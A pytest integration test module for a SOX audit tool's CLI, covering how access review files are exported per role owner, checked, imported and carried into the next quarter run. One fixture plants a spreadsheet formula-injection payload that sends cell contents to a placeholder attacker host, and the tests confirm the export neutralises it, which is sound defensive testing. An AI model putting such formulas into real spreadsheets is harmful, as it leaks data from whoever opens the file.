"""The user access review on the CLI: `soxtrail review export` writes one file per role owner
of a completed demo run's AC-03 items; `soxtrail review import` checks returned files with the
load's own rules and files them, bytes unchanged, where the next quarter run captures them;
that run's AC-03 rows carry the decisions and the review's reasons.

One shared demo run (the `demo_run` fixture) is exported, and one more quarter run of the
same estate reads the returned files back."""

from __future__ import annotations

import csv
import hashlib
import shutil
from collections import Counter
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from extract.connectors.access_review import COLUMNS, review_rows
from soxtrail.audit import review
from soxtrail.kernel import runs
from soxtrail.kernel.controls import CONTROLS, MARTS_SCHEMA
from tests.support.cli import Result, soxtrail
from tests.support.demo_quarter import DemoRun

pytestmark = [pytest.mark.integration, pytest.mark.e2e, pytest.mark.slow]

AC03 = f"{MARTS_SCHEMA}.{CONTROLS['AC-03']}"
AC01 = f"{MARTS_SCHEMA}.{CONTROLS['AC-01']}"
FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"click")'  # planted as a holder identity
REVIEW_FOLDER = "returned/{quarter}"  # the test's own folder (the demo ships its own review)


@dataclass
class Cycle:
    run: DemoRun
    out: Path  # the exported files
    returned: Path  # the files as the owners return them
    export: Result
    items: dict[str, dict[str, Any]]  # item_key -> the run's AC-03 row
    planted: str  # the item whose holder identity looks like a formula

    def cli(self, *args: str) -> Result:
        return soxtrail(*args, home=self.run.home, database_url=self.run.db.dsn)

    @property
    def folder(self) -> Path:
        return self.run.demo / "returned" / self.run.quarter

    def import_(self, *paths: Path, replace: bool = False) -> Result:
        return self.cli("review", "import", *map(str, paths), "--quarter", self.run.quarter,
                        "--config", str(self.run.config), *(["--replace"] if replace else []))


def _ac03_rows(run: DemoRun, run_id: str) -> dict[str, dict[str, Any]]:
    with run.db.connect() as conn, conn.cursor() as cur:
        cur.execute(f"select * from {AC03} where run_id = %s", (run_id,))
        names = [d.name for d in cur.description or ()]
        return {row[names.index("item_key")]: dict(zip(names, row, strict=True))
                for row in cur.fetchall()}


def _use_own_review_folder(config: Path) -> None:
    """Point `access_review:` at the test's own folder (the demo ships a completed review)."""
    lines = [line for line in config.read_text().splitlines()
             if not line.startswith("access_review:")]
    config.write_text("\n".join(lines) + f"\naccess_review: {REVIEW_FOLDER}\n")


@pytest.fixture(scope="module")
def cycle(demo_run: DemoRun, tmp_path_factory: pytest.TempPathFactory) -> Cycle:
    items = _ac03_rows(demo_run, demo_run.run_id)
    planted = sorted(items)[0]
    with demo_run.db.connect() as conn:  # the module's own copy of the run: a hostile cell
        conn.execute(f"update {AC03} set holder_identity = %s where run_id = %s"
                     " and item_key = %s", (FORMULA, demo_run.run_id, planted))
    items[planted]["holder_identity"] = FORMULA
    _use_own_review_folder(demo_run.config)
    out = tmp_path_factory.mktemp("exported")
    result = soxtrail("review", "export", demo_run.run_id, "--by", "owner", "--format", "both",
                      "--out", str(out), home=demo_run.home, database_url=demo_run.db.dsn)
    assert result.code == 0, result.stderr
    return Cycle(demo_run, out, tmp_path_factory.mktemp("returned"), result, items, planted)


def _owners(cycle: Cycle) -> dict[str | None, list[str]]:
    owners: dict[str | None, list[str]] = {}
    for key, row in sorted(cycle.items.items()):
        owners.setdefault(row["role_owner"], []).append(key)
    return owners


def _file(cycle: Cycle, owner: str | None, ext: str) -> Path:
    name = review.file_names([owner], cycle.run.quarter)[owner]
    return cycle.out / f"{name}.{ext}"


def _xlsx_rows(path: Path) -> list[dict[str, Any]]:
    book = openpyxl.load_workbook(path, read_only=True)
    rows = list(book["Review"].iter_rows(values_only=True))
    book.close()
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_export_writes_one_file_per_role_owner_with_that_owners_items(cycle: Cycle) -> None:
    owners = _owners(cycle)
    assert len(owners) > 2 and None in owners  # the demo has unknown roles: no owner
    written = sorted(p.name for p in cycle.out.iterdir())
    expected = sorted(f"{name}.{ext}" for name in review.file_names(list(owners),
                                                                    cycle.run.quarter).values()
                      for ext in ("csv", "xlsx"))
    assert written == expected
    assert f"access-review_{cycle.run.quarter}_unowned.csv" in written
    for owner, keys in owners.items():
        for ext in ("csv", "xlsx"):
            path = _file(cycle, owner, ext)
            rows, problems = review_rows(path)
            assert problems == []
            assert [r["item_key"] for r in rows] == keys  # that owner's, sorted by item_key
            assert {r["role_owner"] for r in rows} == {owner}
            assert f"{path}: {len(keys)} rows" in cycle.export.stdout


def test_every_ac03_item_is_in_exactly_one_file(cycle: Cycle) -> None:
    seen = Counter(row["item_key"] for path in cycle.out.glob("*.csv")
                   for row in review_rows(path)[0])
    assert set(seen) == set(cycle.items)
    assert set(seen.values()) == {1}


def test_rows_carry_the_runs_facts_and_empty_decisions(cycle: Cycle) -> None:
    with cycle.run.db.connect() as conn:
        grants = dict(conn.execute(
            f"select cluster || '|' || grantee || '|' || granted_role, max(granted_at)"
            f" from {AC01} where run_id = %s group by 1", (cycle.run.run_id,)).fetchall())
    exported = {row["item_key"]: row for path in cycle.out.glob("*.csv")
                for row in review_rows(path)[0]}
    assert any(exported[key]["last_granted_at"] for key in grants if key in exported)
    for key, item in cycle.items.items():
        row = exported[key]
        assert row["holder_identity"] == item["holder_identity"]
        assert row["identity_status"] == ("active" if item["is_holder_active"] else "deactivated")
        assert row["grant_evidence"].startswith(
            f"catalog {item['evidence_locator']} (evidence {item['evidence_id']})")
        granted = grants.get(key)
        assert row["last_granted_at"] == (review._timestamp(granted) if granted else None)
        assert ("; grant " in row["grant_evidence"]) == (granted is not None)
        assert [row[c] for c in review.TO_FILL] == [None] * 4
    assert any(r["identity_status"] == "deactivated" for r in exported.values())


def test_a_formula_looking_cell_is_neutralised_in_csv_and_read_back_intact(cycle: Cycle) -> None:
    owner = cycle.items[cycle.planted]["role_owner"]
    text = _file(cycle, owner, "csv").read_text(encoding="utf-8")
    assert "'" + FORMULA.replace('"', '""') in text
    for ext in ("csv", "xlsx"):
        rows, _ = review_rows(_file(cycle, owner, ext))
        assert [r["holder_identity"] for r in rows if r["item_key"] == cycle.planted] == [FORMULA]
    book = openpyxl.load_workbook(_file(cycle, owner, "xlsx"))
    cells = [row[3] for row in book["Review"].iter_rows(min_row=2)
             if row[0].value == cycle.planted]
    assert cells[0].data_type == "s"  # text, never a formula


def test_the_workbook_is_ready_to_fill_in(cycle: Cycle) -> None:
    book = openpyxl.load_workbook(_file(cycle, None, "xlsx"))
    assert book.sheetnames == ["Review", "About"]
    sheet = book["Review"]
    assert [c.value for c in sheet[1]] == list(COLUMNS)
    assert sheet.freeze_panes == "B2"
    decision = COLUMNS.index("decision")
    validations = sheet.data_validations.dataValidation
    assert [(v.type, v.formula1) for v in validations] == [("list", '"keep,remove"')]
    assert str(validations[0].sqref).startswith(f"{sheet.cell(2, decision + 1).coordinate}:")
    fills = {name: sheet.cell(2, i + 1).fill.fgColor.rgb for i, name in enumerate(COLUMNS)}
    assert fills["decision"] == fills["comment"] != fills["item_key"] == fills["cluster"]
    about = {row[0]: row[1] for row in book["About"].iter_rows(values_only=True)}
    assert about["Run"] == cycle.run.run_id and about["Quarter"] == cycle.run.quarter
    assert "reviewer = your identity" in about["How to fill in"]
    assert "reviewed_at = the date you decided" in about["How to fill in"]


def test_export_refuses_other_groupings_and_runs_without_marts(cycle: Cycle) -> None:
    by_team = cycle.cli("review", "export", cycle.run.run_id, "--by", "team")
    assert by_team.code == 2 and "only `owner`" in by_team.stderr
    with cycle.run.db.connect() as conn:
        capture = runs.create_run(conn, quarter="2023Q1", clusters=None,
                                  config={runs.KIND_KEY: runs.CAPTURE}, config_hash="x")
        running = runs.create_run(conn, quarter="2023Q1", clusters=None, config={},
                                  config_hash="x")
    refused = cycle.cli("review", "export", capture.id, "--by", "owner")
    assert refused.code == 2 and "is a capture" in refused.stderr
    refused = cycle.cli("review", "export", running.id, "--by", "owner")
    assert refused.code == 2 and "is running" in refused.stderr
    latest = cycle.cli("review", "export", "latest", "--by", "owner", "--format", "csv",
                       "--out", str(cycle.returned / "latest"))
    assert latest.code == 0 and f"run {cycle.run.run_id}" in latest.stdout


def _decide(cycle: Cycle) -> dict[str, tuple[Path, dict[str, str]]]:
    """The owners' decisions: in the biggest owner's workbook a self-review, a removal and
    an undecided row; in another owner's CSV one late decision. item_key -> (file, row)."""
    owners = sorted((o for o in _owners(cycle) if o is not None and o != cycle.items[
        cycle.planted]["role_owner"]), key=lambda o: -len(_owners(cycle)[o]))
    book_path = shutil.copy(_file(cycle, owners[0], "xlsx"), cycle.returned)
    csv_path = shutil.copy(_file(cycle, owners[1], "csv"), cycle.returned)
    book = openpyxl.load_workbook(book_path)
    sheet = book["Review"]
    rows = list(sheet.iter_rows(min_row=2))
    col = {name: i for i, name in enumerate(COLUMNS)}
    decided: dict[str, tuple[Path, dict[str, str]]] = {}
    holders = [r for r in rows if r[col["holder_identity"]].value]
    plans = [("self", "keep", holders[0][col["holder_identity"]].value, "2024-09-20"),
             ("remove", "remove", "reviewer-x", "2024-09-02"),
             ("keep", "keep", "reviewer-x", "2024-09-21T10:00:00+02:00")]
    for (what, decision, reviewer, when), row in zip(plans, holders, strict=False):
        row[col["decision"]].value = decision
        row[col["reviewer"]].value = reviewer
        row[col["reviewed_at"]].value = when
        decided[row[col["item_key"]].value] = (Path(book_path), {
            "what": what, "decision": decision, "reviewer": reviewer})
    book.save(book_path)
    lines = list(csv.reader(Path(csv_path).open(encoding="utf-8", newline="")))
    lines[1][col["decision"]:col["comment"] + 1] = ["keep", "reviewer-y", "2024-10-15",
                                                    "=late but sure"]
    decided[lines[1][0]] = (Path(csv_path), {"what": "late", "decision": "keep",
                                             "reviewer": "reviewer-y"})
    with Path(csv_path).open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, lineterminator="\r\n").writerows(lines)
    return decided


@pytest.fixture(scope="module")
def returned(cycle: Cycle) -> dict[str, tuple[Path, dict[str, str]]]:
    return _decide(cycle)


def test_import_refuses_a_file_with_problems_naming_file_line_and_field(
        cycle: Cycle, returned: dict[str, tuple[Path, dict[str, str]]]) -> None:
    good = next(path for path, _ in returned.values() if path.suffix == ".csv")
    bad = cycle.returned / "bad" / good.name
    bad.parent.mkdir()
    lines = list(csv.reader(good.open(encoding="utf-8", newline="")))
    col = {name: i for i, name in enumerate(COLUMNS)}
    lines[2][col["decision"]] = "maybe"
    lines[3][col["decision"]] = "remove"  # no reviewer, no date
    with bad.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, lineterminator="\r\n").writerows(lines)
    result = cycle.import_(bad)
    assert result.code == 2
    assert f"{bad}:3: decision: 'maybe' is not one of keep, remove" in result.stderr
    assert f"{bad}:4: reviewer: required with a decision" in result.stderr
    assert not cycle.folder.exists()  # nothing imported
    wrong_quarter = cycle.returned / "bad" / good.name.replace("2024Q3", "2024Q2")
    shutil.copy(good, wrong_quarter)
    result = cycle.import_(wrong_quarter)
    assert result.code == 2 and "the file name is for 2024Q2, not 2024Q3" in result.stderr


def test_import_refuses_a_config_without_a_review_folder(
        cycle: Cycle, returned: dict[str, tuple[Path, dict[str, str]]]) -> None:
    config = cycle.returned / "no-review.yml"
    config.write_text("\n".join(line for line in cycle.run.config.read_text().splitlines()
                                if not line.startswith("access_review:")) + "\n")
    path = next(iter(returned.values()))[0]
    result = cycle.cli("review", "import", str(path), "--quarter", "2024Q3", "--config",
                       str(config))
    assert result.code == 2 and "no `access_review:` key" in result.stderr


def test_import_copies_the_bytes_and_reports_the_decisions(
        cycle: Cycle, returned: dict[str, tuple[Path, dict[str, str]]]) -> None:
    files = sorted({path for path, _ in returned.values()})
    result = cycle.import_(*files)
    assert result.code == 0, result.stderr
    for path in files:
        copied = cycle.folder / path.name
        digest = hashlib.sha256(path.read_bytes()).hexdigest()
        assert hashlib.sha256(copied.read_bytes()).hexdigest() == digest
        assert f"{path.name}: imported into {cycle.folder}" in result.stdout
        assert f"sha256: {digest}" in result.stdout
    book = next(p for p in files if p.suffix == ".xlsx")
    rows = len(review_rows(book)[0])
    assert f"keep: 2, remove: 1, undecided: {rows - 3}" in result.stdout
    assert "reviewed_at: 2024-09-02 .. 2024-09-21T10:00:00+02:00" in result.stdout
    assert f"soxtrail run --quarter 2024Q3 --config {cycle.run.config}" in result.stdout

    again = cycle.import_(*files)
    assert again.code == 0 and again.stdout.count("already imported") == len(files)

    changed = cycle.returned / "changed" / book.name
    changed.parent.mkdir()
    shutil.copy(book, changed)
    with changed.open("ab") as handle:
        handle.write(b"\0")  # other bytes, same rows: still a different file
    kept = (cycle.folder / book.name).read_bytes()
    refused = cycle.import_(changed)
    assert refused.code == 2 and "--replace" in refused.stderr
    assert (cycle.folder / book.name).read_bytes() == kept
    replaced = cycle.import_(changed, replace=True)
    assert replaced.code == 0 and f"{book.name}: replaced" in replaced.stdout
    assert (cycle.folder / book.name).read_bytes() == changed.read_bytes()
    back = cycle.import_(book, replace=True)  # the real one again, for the next run
    assert back.code == 0 and (cycle.folder / book.name).read_bytes() == kept


@pytest.fixture(scope="module")
def next_run(cycle: Cycle, returned: dict[str, tuple[Path, dict[str, str]]]
             ) -> tuple[str, dict[str, dict[str, Any]]]:
    files = sorted({path for path, _ in returned.values()})
    imported = cycle.import_(*files, replace=True)
    assert imported.code == 0, imported.stderr
    result = cycle.cli("run", "--quarter", "2024Q3", "--config", str(cycle.run.config),
                       "--json", "--quiet")
    assert result.code == 0, result.stderr
    run_id = result.json()["run_id"]
    return run_id, _ac03_rows(cycle.run, run_id)


def test_the_next_run_captures_each_returned_file_as_evidence(
        cycle: Cycle, returned: dict[str, tuple[Path, dict[str, str]]],
        next_run: tuple[str, dict[str, dict[str, Any]]]) -> None:
    run_id, _ = next_run
    with cycle.run.db.connect() as conn:
        evidence = dict(conn.execute(
            "select query_params ->> 'file', result_hash from soxtrail.sox_evidence"
            " where run_id = %s and source_system = 'access_review'", (run_id,)).fetchall())
    files = {path.name: hashlib.sha256(path.read_bytes()).hexdigest()
             for path, _ in returned.values()}
    assert evidence == files


def test_the_next_runs_ac03_rows_carry_the_decisions_and_reasons(
        cycle: Cycle, returned: dict[str, tuple[Path, dict[str, str]]],
        next_run: tuple[str, dict[str, dict[str, Any]]]) -> None:
    _, rows = next_run
    expected = {"self": "REVIEWER_IS_HOLDER", "remove": "REMOVE_NOT_ACTIONED",
                "late": "REVIEW_LATE", "keep": None}
    for key, (_, decided) in returned.items():
        row = rows[key]
        assert (row["review_decision"], row["reviewer"]) == (decided["decision"],
                                                             decided["reviewer"])
        reasons = row["exception_reasons"] or []
        assert "REVIEW_MISSING" not in reasons
        reason = expected[decided["what"]]
        review_reasons = [r for r in reasons if r.startswith(("REVIEW", "REMOVE"))]
        assert review_reasons == ([reason] if reason else []), (key, reasons)
    undecided = [key for key in rows if key not in returned]
    assert undecided and all("REVIEW_MISSING" in (rows[key]["exception_reasons"] or [])
                             for key in undecided)
